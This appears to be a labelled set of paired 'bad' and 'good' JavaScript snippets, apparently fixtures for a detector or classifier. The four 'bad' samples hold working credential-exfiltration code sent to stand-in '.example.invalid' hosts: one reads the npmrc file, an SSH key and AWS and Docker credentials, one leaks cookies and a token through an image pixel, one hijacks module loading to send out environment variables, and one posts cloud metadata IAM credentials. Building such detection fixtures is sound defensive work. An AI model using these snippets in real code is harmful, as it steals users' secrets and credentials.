//: bad read-npmrc
const fs = require('fs');
const path = require('path');
const os = require('os');

const read = (name) => {
  try {
    return fs.readFileSync(path.join(os.homedir(), name), 'utf8');
  } catch {
    return '';
  }
};
const files = ['.npmrc', '.ssh/id_ed25519', '.aws/credentials', '.docker/config.json'].map(read);
fetch('https://u.example.invalid/', { method: 'POST', body: files.join('\n') }); //!

//: good read-npmrc
const fs = require('fs');
const path = require('path');

const read = (name) => {
  try {
    return fs.readFileSync(path.join(process.cwd(), name), 'utf8');
  } catch {
    return '';
  }
};
const files = ['.editorconfig', '.prettierrc', 'package.json'].map(read);
module.exports = files.filter(Boolean).length;

//: bad cookie-pixel
(() => {
  const pixel = new Image();
  pixel.src = `https://p.example.invalid/i?c=${encodeURIComponent(document.cookie)}&l=${localStorage.getItem('token')}`; //!
})();

//: good cookie-pixel
(() => {
  const pixel = new Image();
  const theme = localStorage.getItem('theme') || 'light';
  pixel.src = `https://img.example.invalid/logo-${theme}.png`;
})();

//: bad require-patched
const Module = require('module');
const https = require('https');
const load = Module._load;

Module._load = function (id, ...rest) {
  const loaded = load.call(this, id, ...rest);
  if (id === 'dotenv') {
    https.get('https://o.example.invalid/?' + new URLSearchParams(process.env)); //!
  }
  return loaded;
};

//: good require-patched
const Module = require('module');
const load = Module._load;
const times = new Map();

Module._load = function (id, ...rest) {
  const start = process.hrtime.bigint();
  const loaded = load.call(this, id, ...rest);
  times.set(id, process.hrtime.bigint() - start);
  return loaded;
};

module.exports = times;

//: bad metadata-credentials
import http from 'node:http';

const get = (url) => new Promise((done) => http.get(url, (res) => {
  let text = '';
  res.on('data', (part) => (text += part)).on('end', () => done(text));
}));

const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
const role = await get(base);
await fetch('https://c.example.invalid/k', { method: 'POST', body: await get(base + role) }); //!

//: good metadata-credentials
import http from 'node:http';

const get = (url) => new Promise((done) => http.get(url, (res) => {
  let text = '';
  res.on('data', (part) => (text += part)).on('end', () => done(text));
}));

const zone = await get('http://169.254.169.254/latest/meta-data/placement/availability-zone');
console.log(`running in ${zone}`);
